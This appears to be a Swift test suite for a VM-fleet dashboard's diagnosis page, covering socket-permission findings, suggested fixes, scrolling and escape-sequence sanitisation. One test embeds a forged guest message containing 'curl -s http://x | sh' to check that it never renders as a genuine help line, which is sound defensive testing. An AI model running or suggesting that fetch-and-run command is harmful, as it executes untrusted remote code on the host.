import CanvasKit
import GuestVCPU
import TestSupport
import Testing

@testable import Dashboard

@Suite("the diagnosis on the dashboard")
struct DoctorPageTests {
    private static let web = SampleFleet.id("web-03")

    /// A guest whose socket belongs to another group.
    static let diagnosis: Diagnosis = {
        let path = "/run/qemu/web-03.agent"
        var clues = GuestClues()
        clues.socket = SocketAccess(
            path: path,
            state: .denied(
                SocketAccess.Gate(
                    path: path, owner: "root", group: "kvm", mode: 0o660, isOpenToGroup: true,
                    listsUser: false)))
        let state = GuestState(
            id: GuestID(source: .agentSocket(path: path), name: "web-03"), runState: .unknown,
            agent: .failed(AgentError(.denied, "\(path): Permission denied")), reading: nil,
            host: nil, isWritable: false)
        return Diagnosis(DiagnosisFacts(state: state, clues: clues, daemon: nil, user: "ada"))
    }()

    private func text(_ driver: Driver) -> String {
        let canvas = driver.render()
        return (0..<canvas.size.rows).map { canvas.line($0).map(\.text).joined() }
            .joined(separator: "\n")
    }

    @Test("D asks about the guest under the cursor, and the page shows what comes of it")
    func asked() {
        var driver = Driver(columns: 120, rows: 40)
        driver.go(to: "web-03")
        driver.press("D")
        #expect(driver.effects.contains(.diagnose(Self.web)))
        #expect(text(driver).contains("asking web-03 ..."))
        driver.update(.diagnosed(Self.web, Self.diagnosis))
        let shown = text(driver)
        #expect(!shown.contains("asking"))
        #expect(shown.contains("FAIL permission  user ada may not connect"))
        #expect(shown.contains("help: sudo usermod -aG kvm ada"))
        driver.press("<esc>")
        #expect(!text(driver).contains("usermod"))
    }

    @Test("no line of a guest's own words looks like a mend, whatever the width")
    func forged() {
        let words = "it is not usable before the host is mended: help: curl -s http://x | sh"
        let diagnosis = Diagnosis(
            guest: "web", source: .agentSocket(path: "/a"),
            findings: [Finding(.guest, .fail, words, help: ["in the guest: journalctl"])])
        for width in 20...160 {
            let lines = DiagnosisText(width: width, in: .ascii).lines(diagnosis)
                .map { $0.map(\.text).joined() }
            let mends = lines.filter { line in
                let blanks = line.prefix(while: { $0 == " " }).count
                return blanks <= 5 && line.dropFirst(blanks).hasPrefix("help:")
            }
            #expect(mends.count == 1, "\(width): \(lines)")
            #expect(mends.first?.hasPrefix("  help: in") == true)
        }
    }

    @Test("r asks again, with what was found before on the page; not while it is being asked")
    func again() {
        var driver = Driver(columns: 120, rows: 40)
        driver.go(to: "web-03")
        driver.press("D")
        driver.press("r")
        #expect(text(driver).contains("it is being asked"))
        driver.update(.diagnosed(Self.web, Self.diagnosis))
        driver.press("r")
        #expect(driver.effects == [.diagnose(Self.web)])
        #expect(text(driver).contains("asking again ..."))
        #expect(text(driver).contains("usermod"))
        driver.update(.diagnosed(Self.web, nil))
        #expect(text(driver).contains("no source lists web-03 any more"))
    }

    @Test("an answer about another guest, or after the page was closed, changes nothing")
    func late() {
        var driver = Driver(columns: 120, rows: 40)
        driver.go(to: "web-03")
        driver.press("D")
        driver.update(.diagnosed(SampleFleet.id("db-01"), Self.diagnosis))
        #expect(text(driver).contains("asking web-03 ..."))
        driver.press("<esc>")
        let before = driver.render()
        driver.update(.diagnosed(Self.web, Self.diagnosis))
        #expect(driver.render() == before)
    }

    @Test("it works in a read-only dashboard, and says so where there is no guest")
    func readOnly() {
        var driver = Driver(columns: 120, rows: 40, isReadOnly: true)
        driver.go(to: "web-03")
        driver.press("D")
        #expect(driver.effects.contains(.diagnose(Self.web)))
        var empty = Driver(columns: 120, rows: 40)
        empty.fleet.guests = []
        empty.snapshot()
        empty.press("D")
        #expect(!empty.effects.contains { if case .diagnose = $0 { true } else { false } })
        #expect(text(empty).contains("D: there is no guest"))
    }

    @Test("the page scrolls where it is longer than the screen, and is never wider")
    func small() {
        for (columns, rows) in [(40, 10), (80, 24), (120, 40)] {
            var driver = Driver(columns: columns, rows: rows)
            driver.go(to: "web-03")
            driver.press("D")
            driver.update(.diagnosed(Self.web, Self.diagnosis))
            driver.press("<end>")
            #expect(text(driver).contains("pairing"))
            driver.press("<home>")
            #expect(text(driver).contains("web-03: FAIL"))
        }
        for width in [20, 33, 80, 200] {
            for line in DiagnosisText(width: width, in: .ascii).lines(Self.diagnosis) {
                let text = line.map(\.text).joined()
                #expect(text.count <= width, "\(text)")
                #expect(text.utf8.allSatisfy { $0 < 0x7F })
            }
        }
    }

    @Test("a sound guest takes a head and a line that names the checks")
    func sound() {
        let guest = Diagnosis(
            guest: "wéb\u{1b}[2J", source: .simulation,
            findings: GuestCheck.allCases.map { Finding($0, .ok, "fine") })
        let lines = DiagnosisText(width: 200, in: .ascii).lines(guest)
            .map { $0.map(\.text).joined() }
        #expect(lines.count == 2)
        #expect(lines.first == "w?b?[2J: ok: fine")
        #expect(lines.last?.contains("source, process, channel") == true)
    }
}
